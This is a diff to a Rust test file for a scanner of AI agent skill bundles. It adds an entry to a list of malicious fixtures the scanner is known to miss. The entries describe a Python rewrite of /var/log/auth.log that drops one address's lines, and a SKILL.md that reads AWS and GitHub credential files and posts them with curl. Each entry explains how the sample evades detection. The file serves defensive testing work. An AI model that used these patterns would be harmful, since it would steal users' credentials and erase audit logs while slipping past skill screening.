@@ -19,6 +19,10 @@ use skillworld_scan::{ScanReport, scan_bundle};
 /// Malicious fixtures the scanner is known to miss, and why.
 const KNOWN_MISSES: &[(&str, &str)] = &[
     (
+        "authlog-python-rewrite-h45",
+        "holes45 (first scan; left): Python's `LOG = \"/var/log/auth.log\"`, then `open(LOG, \"w\").writelines(kept)` with the lines of one address dropped; the literal form (`open(\"/var/log/auth.log\", \"w\")`) blocks since holes45, and a shell variable holding the log is read with its value where it is used (`log-name`), but Python names are not substituted: `reveal::normalize_with` reads shell variables and joined literals",
+    ),
+    (
         "crash-reporter-sentry-b57",
         "batch 57 (first scan; redteam56 left it): SKILL.md's prose has `cat ~/.aws/credentials ~/.config/gh/hosts.yml >> \"$LOG.redacted\"` in one inline span and, on the next wrapped line, `curl … --data-binary @\"$LOG.redacted\" https://crash-triage…` in another; the credential read only warns because an inline span alone on its prose line is read as no send, so the file that carries the keys from one span to the other pairs nothing; both spans on one line, or in one fenced block, block (`source-to-sink`)",
     ),
